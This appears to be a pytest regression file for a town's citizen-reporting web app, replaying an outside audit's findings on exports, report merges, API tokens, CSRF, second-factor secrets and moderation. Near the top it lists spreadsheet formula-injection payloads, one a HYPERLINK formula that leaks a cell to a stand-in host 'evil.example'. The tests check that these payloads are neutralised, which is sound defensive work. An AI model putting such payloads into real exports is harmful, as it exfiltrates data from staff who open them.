"""The outside audit's probes, each replayed against the fix: exports, merges, attachments, tokens."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from backend.accounts.models import Role
from tests.api.test_staff_access import manager_of
from tests.factories import IN_BRENLES, csrf, person, sign_in

from backend.exports import csv_cell

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Cliquez")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1"]


async def test_exported_texts_never_become_formulas(client, new_client, town):
    """Audit point 3: a description `=HYPERLINK(...)` was a live formula in the XLSX and the CSV."""
    await csrf(client)
    for text in FORMULAS:
        r = await client.post("/api/v1/requests", json={"service": "proprete", "lat": IN_BRENLES[0], "lon": IN_BRENLES[1],
                                                        "contact_email": "a@example.org", "description": text})
        assert r.status_code == 201, r.text
    agent = await sign_in(new_client(), await person(Role.AGENT, town.brenles))
    table = list(csv.reader(io.StringIO((await agent.get("/api/v1/staff/requests.csv")).content.decode("utf-8-sig")),
                            delimiter=";"))
    descriptions = [line[4] for line in table[1:]]
    assert sorted(descriptions) == sorted("'" + t for t in FORMULAS)
    sheet = load_workbook(io.BytesIO((await agent.get("/api/v1/staff/requests.xlsx")).content)).active
    cells = [line[4] for line in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(FORMULAS) and {c.data_type for c in cells} == {"s"}
    assert csv_cell("\r=1+1") == "'\r=1+1"  # a carriage return cannot come through the API (texts are cleaned)
    assert all(isinstance(line[11].value, float) for line in sheet.iter_rows(min_row=2))  # numbers stay numbers

    lighting = await sign_in(new_client(), await manager_of(town, "eclairage"))
    applicant = await sign_in(new_client(), await person(Role.MEMBER, town.brenles, name=FORMULAS[0]))
    r = await applicant.post("/api/v1/access/requests", json={"kind": "rights", "organisation": "brenles", "role": "agent",
                                                              "services": ["eclairage"]})
    assert r.status_code == 201, r.text
    text = (await lighting.get("/api/v1/access/requests.csv", params={"box": "rights"})).content.decode("utf-8-sig")
    [row] = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
    assert row[6] == "'" + FORMULAS[0]
    book = load_workbook(io.BytesIO((await lighting.get("/api/v1/access/requests.xlsx", params={"box": "rights"})).content))
    assert book.active["G2"].value == FORMULAS[0] and book.active["G2"].data_type == "s"


async def test_a_request_is_merged_only_into_a_public_report_its_merger_handles(client, new_client, town):
    """Audit point 5: a field agent merged a report into a private lost-object declaration and then received its
    private messages."""
    from datetime import datetime, timedelta, timezone

    from backend.requests.models import ServiceRequest, Supporter

    owner = await sign_in(new_client(), await person())
    lost = {"categorie": "keys", "couleur": "silver", "quand": (datetime.now(timezone.utc) - timedelta(hours=5)).isoformat(),
            "rayon": "500"}
    r = await owner.post("/api/v1/requests", json={"service": "objet-perdu", "lat": IN_BRENLES[0], "lon": IN_BRENLES[1],
                                                   "description": "Trousseau", "attributes": lost})
    private_ref = r.json()["ref"]
    field_user = await person(Role.FIELD_AGENT, town.brenles, team="Voirie")
    field = await sign_in(new_client(), field_user)
    await sign_in(client, field_user)  # the field agent also reports as a citizen: the merge would make them follow
    own = (await client.post("/api/v1/requests", json={"service": "voirie", "lat": IN_BRENLES[0], "lon": IN_BRENLES[1],
                                                       "attributes": {"taille": "small"}})).json()["ref"]
    other_team = (await client.post("/api/v1/requests", json={"service": "proprete", "lat": IN_BRENLES[0],
                                                              "lon": IN_BRENLES[1]})).json()["ref"]
    dispatcher = await sign_in(new_client(), await person(Role.DISPATCHER, town.brenles))
    assert (await dispatcher.post(f"/api/v1/requests/{own}/events", json={"assignee": field_user.id})).status_code == 201
    r = await field.post(f"/api/v1/requests/{own}/events", json={"status": "duplicate", "duplicate_of": private_ref})
    assert r.status_code == 404 and r.json()["error"]["field"] == "duplicate_of"
    r = await field.post(f"/api/v1/requests/{own}/events", json={"status": "duplicate", "duplicate_of": other_team})
    assert r.status_code == 404  # a report of another team: not one this field agent handles
    agent = await sign_in(new_client(), await person(Role.AGENT, town.brenles))
    r = await agent.post(f"/api/v1/requests/{own}/events", json={"status": "duplicate", "duplicate_of": private_ref})
    assert r.status_code == 422 and r.json()["error"]["code"] == "not_mergeable"
    assert not await Supporter.filter(request__ref=private_ref).exists()
    assert (await ServiceRequest.get(ref=own)).status == "submitted"
    r = await agent.post(f"/api/v1/requests/{own}/events", json={"status": "duplicate", "duplicate_of": other_team})
    assert r.status_code == 201  # two public reports of the town: a merge as before


async def test_only_the_prefect_ends_the_secretarys_attachment(client, new_client, town):
    """Audit point 8: a deputy ended the municipal secretary's attachment (204)."""
    from backend.accounts.models import Membership, MembershipStatus

    secretary_user = await person(Role.SECRETARY, town.brenles, name="Jean Secrétaire")
    deputy_user = await person(Role.DEPUTY, town.brenles, name="Irène Adjointe")
    other_deputy = await person(Role.DEPUTY, town.brenles)
    agent_user = await person(Role.AGENT, town.brenles)
    deputy = await sign_in(new_client(), deputy_user)
    secretary = await sign_in(new_client(), secretary_user)
    prefect = await sign_in(new_client(), await person(Role.PREFECT, town.district))

    def end(who):
        return f"/api/v1/access/organisations/brenles/people/{who.id}/end"

    r = await deputy.post(end(secretary_user), json={"reason": "Coup d'État"})
    assert r.status_code == 403 and r.json()["error"]["code"] == "above_your_role"
    r = await deputy.post(end(other_deputy), json={"reason": "Rivalité"})
    assert r.status_code == 403
    assert await Membership.filter(user=secretary_user, status=MembershipStatus.ACTIVE).exists()
    assert await Membership.filter(user=other_deputy, status=MembershipStatus.ACTIVE).exists()
    assert (await deputy.post(end(agent_user), json={"reason": "Départ"})).status_code == 204
    assert (await secretary.post(end(other_deputy), json={"reason": "Fin de mandat"})).status_code == 204
    assert (await prefect.post(end(secretary_user), json={"reason": "Fin de fonctions"})).status_code == 204
    assert not await Membership.filter(user=secretary_user, status=MembershipStatus.ACTIVE).exists()


async def test_api_tokens_end_with_the_password_expire_carry_scopes_and_need_the_second_factor(client, new_client, town):
    """Audit point 7: tokens survived a password change and a reset, never expired, and skipped the second factor."""
    from datetime import timedelta

    from backend.accounts.models import ApiToken
    from backend.accounts.service import utcnow
    from tests.factories import PASSWORD

    user = await person()
    await sign_in(client, user)

    async def token(**body):
        r = await client.post("/api/v1/me/tokens", json={"name": "script", **body})
        assert r.status_code == 201, r.text
        script = new_client()
        script.headers["Authorization"] = f"Bearer {r.json()['token']}"
        return script, r.json()

    reader, made = await token()
    assert made["scopes"] == ["read"]
    assert (await reader.get("/api/v1/me")).status_code == 200
    r = await reader.patch("/api/v1/me", json={"name": "Changed"})
    assert r.status_code == 403 and r.json()["error"]["code"] == "insufficient_scope"
    r = await reader.post("/api/v1/me/tokens", json={"name": "child", "scopes": ["read", "write"]})
    assert r.status_code == 403
    for body, field in [({"scopes": ["admin"]}, "scopes"), ({"scopes": []}, "scopes"), ({"scopes": "read"}, "scopes"),
                        ({"expires_in_days": 0}, "expires_in_days"), ({"expires_in_days": 366}, "expires_in_days")]:
        r = await client.post("/api/v1/me/tokens", json={"name": "x", **body})
        assert r.status_code == 422 and r.json()["error"]["field"] == field, (body, r.text)
    r = await client.post("/api/v1/me/tokens", json={"name": "x", "scopes": ["staff"]})
    assert r.status_code == 403  # a citizen's account has no staff rights to give
    # Expiry: a token past its end is refused.
    writer, _ = await token(scopes=["read", "write"], expires_in_days=1)
    await ApiToken.filter(name="script", scopes="read write").update(expires_at=utcnow() - timedelta(seconds=1))
    r = await writer.get("/api/v1/me")
    assert r.status_code == 401 and r.json()["error"]["code"] == "invalid_token"
    # A password change ends every token.
    writer, _ = await token(scopes=["read", "write"])
    r = await client.post("/api/v1/me/password", json={"current_password": PASSWORD, "new_password": "Another-horse-41"})
    assert r.status_code == 200
    assert (await writer.get("/api/v1/me")).status_code == 401 and (await reader.get("/api/v1/me")).status_code == 401

    # A staff account: only in a session that passed the second factor; staff rights only with the staff scope.
    agent_user = await person(Role.AGENT, town.brenles)
    agent = new_client()
    await csrf(agent)
    r = await agent.post("/api/v1/auth/login", json={"email": agent_user.email, "password": PASSWORD})
    assert r.status_code == 401  # the code is asked: there is no session without it
    await sign_in(agent, agent_user)
    plain = (await agent.post("/api/v1/me/tokens", json={"name": "a", "scopes": ["read"]})).json()["token"]
    staff = (await agent.post("/api/v1/me/tokens", json={"name": "b", "scopes": ["read", "staff"]})).json()["token"]
    queue = "/api/v1/staff/requests"
    assert (await new_client().get(queue, headers={"Authorization": f"Bearer {plain}"})).status_code == 403
    assert (await new_client().get(queue, headers={"Authorization": f"Bearer {staff}"})).status_code == 200


async def test_a_staff_account_without_its_second_factor_makes_no_token(client, town):
    agent_user = await person(Role.AGENT, town.brenles)
    agent_user.totp_secret = None  # not enrolled yet: the session is a citizen's until it is
    await agent_user.save()
    await sign_in(client, agent_user)
    r = await client.post("/api/v1/me/tokens", json={"name": "a"})
    assert r.status_code == 403 and r.json()["error"]["code"] == "second_factor_required"


async def test_a_reset_ends_every_token_and_every_other_reset_link(client, new_client):
    """Audit points 7 and 14: a reset link issued before a successful reset still worked."""
    from backend.push.models import Outbox
    from tests.api.test_accounts import _link_token

    user = await person()
    owner = await sign_in(new_client(), user)
    made = (await owner.post("/api/v1/me/tokens", json={"name": "s", "scopes": ["read"]})).json()["token"]
    await csrf(client)
    for _ in range(2):
        assert (await client.post("/api/v1/auth/password-reset", json={"email": user.email})).status_code == 202
    first, second = [_link_token(m) for m in await Outbox.filter(recipient=user.email).order_by("id")
                     if m.payload["subject"] == "Réinitialiser votre mot de passe"]
    r = await client.post("/api/v1/auth/password-reset/confirm", json={"token": second, "password": "New-long-secret-42"})
    assert r.status_code == 200
    r = await client.post("/api/v1/auth/password-reset/confirm", json={"token": first, "password": "Attacker-choice-1"})
    assert r.status_code == 410 and r.json()["error"]["code"] == "link_expired"
    assert (await new_client().get("/api/v1/me", headers={"Authorization": f"Bearer {made}"})).status_code == 401


async def test_the_csrf_check_holds_whatever_the_authorization_header_and_is_bound_to_the_session(client, new_client):
    """Audit point 13: any non-Bearer Authorization header turned the check off while the cookie still
    authenticated; the token was bound to the CSRF cookie only."""
    from backend.accounts.models import User

    user = await person()
    before = await csrf(client)  # the token of the anonymous visit
    await sign_in(client, user)
    token = client.headers.pop("X-CSRF-Token")
    assert token != before
    for headers in ({"Authorization": "Basic Zm9vOmJhcg=="}, {"Authorization": "Token abc"}, {"X-CSRF-Token": before}):
        r = await client.patch("/api/v1/me", json={"name": "Hacked"}, headers=headers)
        assert r.status_code == 403 and r.json()["error"]["code"] == "csrf_failed", headers
    assert (await User.get(id=user.id)).name == "Test Person"
    # Another person's token, for their own session, is no good here either.
    other = await sign_in(new_client(), await person())
    r = await client.patch("/api/v1/me", json={"name": "Hacked"}, headers={"X-CSRF-Token": other.headers["X-CSRF-Token"]})
    assert r.status_code == 403
    r = await client.patch("/api/v1/me", json={"name": "Renamed"}, headers={"X-CSRF-Token": token})
    assert r.status_code == 200
    session = (await client.get("/api/v1/session")).json()
    assert session["csrf_token"] == token  # /session gives the same token for the same session


async def test_the_server_makes_the_authenticator_secret_and_keeps_it_sealed(client, settings):
    """Audit points 12 and 22: a client-chosen secret ("AAAAAAAA") was accepted; TOTP secrets lay in clear in a
    0644 database, reset links in 0644 development mails."""
    import os
    import stat
    from pathlib import Path

    from backend.accounts import sealing
    from backend.accounts.models import User
    from backend.push import worker
    from tests.api.test_staff_access import enrol
    from tests.factories import totp_code

    user = await person()
    await sign_in(client, user)
    start = (await client.post("/api/v1/me/second-factor/enrolment", json={})).json()
    for secret, proof in (("AAAAAAAA", start["enrolment"]), ("AAAAAAAA", "0" * 64), (start["secret"], "0" * 64)):
        r = await client.post("/api/v1/me/second-factor", json={"secret": secret, "enrolment": proof,
                                                                 "code": totp_code(secret, user.email)})
        assert r.status_code == 422 and r.json()["error"]["code"] == "invalid_enrolment", r.text
    assert (await User.get(id=user.id)).totp_secret is None
    await enrol(client)
    stored = (await User.get(id=user.id)).totp_secret
    assert stored.startswith(sealing.PREFIX) and len(sealing.unseal(stored, secret_key=settings.secret_key)) == 32
    with __import__("pytest").raises(ValueError):
        sealing.unseal(stored, secret_key="another key")
    # Files: the database (SQLite), the data folder and the development mails are the owner's alone.
    data = Path(settings.data_dir)
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
    if settings.database_url.startswith("sqlite://"):
        database = Path(settings.database_url.split("://", 1)[1])
        assert stat.S_IMODE(database.stat().st_mode) == 0o600
    assert (await client.post("/api/v1/auth/password-reset", json={"email": user.email})).status_code == 202
    await worker.deliver_due(settings)
    mails = list((data / "outbox-mail").glob("*.eml"))
    assert mails and all(stat.S_IMODE(os.stat(m).st_mode) == 0o600 for m in mails)


async def test_a_secret_kept_in_clear_by_an_earlier_version_is_sealed_at_its_next_use(client, town, settings):
    from backend.accounts import sealing
    from backend.accounts.models import User

    agent_user = await person(Role.AGENT, town.brenles)  # the factory stores the secret in clear, as before
    clear = agent_user.totp_secret
    await sign_in(client, agent_user)
    stored = (await User.get(id=agent_user.id)).totp_secret
    assert sealing.is_sealed(stored) and sealing.unseal(stored, secret_key=settings.secret_key) == clear


async def test_personal_answers_are_not_stored_and_https_sites_send_hsts(client, new_client, town, settings):
    """Audit point 19: no `Cache-Control: no-store` on staff details, /me, tokens and exports; no HSTS."""
    import dataclasses

    import httpx

    from backend.app import create_app

    citizen = await sign_in(client, await person())
    ref = (await client.post("/api/v1/requests", json={"service": "proprete", "lat": IN_BRENLES[0],
                                                       "lon": IN_BRENLES[1]})).json()["ref"]
    agent = await sign_in(new_client(), await person(Role.AGENT, town.brenles))
    answers = [await citizen.get("/api/v1/me"), await citizen.get("/api/v1/me/requests"),
               await citizen.get("/api/v1/me/tokens"), await citizen.post("/api/v1/me/tokens", json={"name": "x"}),
               await agent.get(f"/api/v1/requests/{ref}"), await agent.get("/api/v1/staff/requests"),
               await agent.get("/api/v1/staff/requests.csv"), await agent.get("/api/v1/staff/requests.xlsx")]
    assert [r.headers.get("cache-control") for r in answers] == ["no-store"] * len(answers)
    assert "strict-transport-security" not in answers[0].headers  # BASE_URL is http here
    secure = create_app(dataclasses.replace(settings, base_url="https://guichet.brenles.example"))
    async with secure.router.lifespan_context(secure):
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=secure), base_url="https://testserver") as c:
            for path in ("/", "/api/v1/session", "/healthz"):
                r = await c.get(path)
                assert r.headers["strict-transport-security"].startswith("max-age=63072000"), path


async def test_a_photo_is_shown_by_every_request_that_holds_it(client, new_client, town):
    """Audit point 23: a photo's access followed the first Photo row with its content hash, whatever request it
    belonged to."""
    import json
    from datetime import datetime, timedelta, timezone

    from tests import photos

    owner = await sign_in(client, await person())
    lost = {"categorie": "keys", "couleur": "silver", "quand": (datetime.now(timezone.utc) - timedelta(hours=5)).isoformat(),
            "rayon": "500"}
    picture = photos.jpeg(900, 600, gps=None)
    r = await owner.post("/api/v1/requests", files=[("photo", ("k.jpg", picture, "image/jpeg"))], data={
        "service": "objet-perdu", "lat": str(IN_BRENLES[0]), "lon": str(IN_BRENLES[1]), "attributes": json.dumps(lost)})
    assert r.status_code == 201, r.text
    url = r.json()["photos"][0]["url"]
    anonymous = new_client()
    assert (await anonymous.get(url)).status_code == 404
    mine = await owner.get(url)
    assert mine.status_code == 200 and mine.headers["cache-control"] == "private, no-store"
    # The same picture, sent again with a public report: public from now on, whichever row came first.
    r = await owner.post("/api/v1/requests", files=[("photo", ("k.jpg", picture, "image/jpeg"))], data={
        "service": "proprete", "lat": str(IN_BRENLES[0]), "lon": str(IN_BRENLES[1])})
    assert r.json()["photos"][0]["url"] == url
    shown = await anonymous.get(url)
    assert shown.status_code == 200 and shown.headers["cache-control"].startswith("public")


async def test_what_is_public_withdrawn_requests_citizens_words_and_moderation(client, new_client, town):
    """Audit point 10: withdrawn requests stayed public by their sequential reference; a citizen's comment was
    public and in Open311 status_notes, unmoderated; staff could hide neither a citizen's text nor a photo."""
    from tests import photos

    author = await sign_in(client, await person())
    public = new_client()
    agent = await sign_in(new_client(), await person(Role.AGENT, town.brenles))
    base = {"service": "proprete", "lat": str(IN_BRENLES[0]), "lon": str(IN_BRENLES[1])}
    withdrawn = (await author.post("/api/v1/requests", data=base)).json()["ref"]
    assert (await author.post(f"/api/v1/requests/{withdrawn}/withdraw", json={})).status_code == 201
    assert (await public.get(f"/api/v1/requests/{withdrawn}")).status_code == 404
    assert (await author.get(f"/api/v1/requests/{withdrawn}")).json()["status"] == "withdrawn"
    assert (await agent.get(f"/api/v1/requests/{withdrawn}")).status_code == 200
    listed = (await public.get("/api/v1/requests", params={"bbox": "6.7,46.6,6.9,46.7", "status": "all"})).json()
    assert withdrawn not in str(listed)

    r = await author.post("/api/v1/requests", data={**base, "description": "Le voisin du 3 est un voleur"},
                          files=[("photo", ("a.jpg", photos.jpeg(600, 400, gps=None), "image/jpeg"))])
    ref, photo = r.json()["ref"], r.json()["photos"][0]
    await author.post(f"/api/v1/requests/{ref}/comments", json={"comment": "Il s'appelle Jean Martin"})
    await agent.post(f"/api/v1/requests/{ref}/events", json={"status": "acknowledged", "comment": "Nous passons."})
    seen = (await public.get(f"/api/v1/requests/{ref}")).json()
    assert "Jean Martin" not in str(seen) and "Nous passons." in str(seen)
    assert "Jean Martin" in str((await author.get(f"/api/v1/requests/{ref}")).json())
    notes = (await public.get(f"/open311/v2/requests/{ref}.json", params={"jurisdiction_id": "brenles"})).json()
    assert "Jean Martin" not in str(notes) and "Nous passons." in notes[0]["status_notes"]

    # Staff hide the text and the photo from the public, with a reason; the author and staff still see them.
    path = f"/api/v1/requests/{ref}/moderation"
    assert (await author.post(path, json={"reason": "x", "description_hidden": True})).status_code == 403
    r = await agent.post(path, json={"reason": "Accusation nominative", "description_hidden": True})
    assert r.status_code == 201 and r.json()["kind"] == "moderated" and r.json()["public"] is False
    r = await agent.post(path, json={"reason": "Visage visible", "photo": photo["url"], "photo_hidden": True})
    assert r.status_code == 201
    for body, field in [({"reason": "x"}, "description_hidden"), ({"description_hidden": True}, "reason"),
                        ({"reason": "x", "photo": "/media/2026/01/" + "0" * 64 + ".jpg", "photo_hidden": True}, "photo")]:
        r = await agent.post(path, json=body)
        assert r.status_code in (404, 422) and r.json()["error"]["field"] == field, (body, r.text)
    seen = (await public.get(f"/api/v1/requests/{ref}")).json()
    assert seen["description"] == "" and seen["description_hidden"] is True and seen["photos"] == []
    assert "voleur" not in str((await public.get("/api/v1/requests", params={"bbox": "6.7,46.6,6.9,46.7"})).json())
    assert (await public.get(photo["url"])).status_code == 404
    assert "voleur" not in str((await public.get(f"/open311/v2/requests/{ref}.json")).json())
    mine = (await author.get(f"/api/v1/requests/{ref}")).json()
    assert "voleur" in mine["description"] and mine["photos"][0]["hidden"] is True
    assert (await author.get(photo["url"])).status_code == 200
    staff_view = (await agent.get(f"/api/v1/requests/{ref}")).json()
    assert any(e["kind"] == "moderated" and e["comment"] == "Visage visible" for e in staff_view["events"])
    r = await agent.post(path, json={"reason": "Flou ajouté", "photo": photo["url"], "photo_hidden": False})
    assert r.status_code == 201 and (await public.get(photo["url"])).status_code == 200
